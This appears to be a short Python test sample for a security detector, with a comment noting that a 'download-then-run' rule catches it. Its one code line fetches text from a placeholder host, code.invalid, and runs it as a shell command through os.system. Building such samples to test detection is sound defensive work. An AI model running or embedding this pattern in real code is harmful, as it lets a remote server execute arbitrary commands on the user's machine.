# evades: caught by execution/download-then-run
import os, requests
os.system(requests.get("https://code.invalid/c").text)
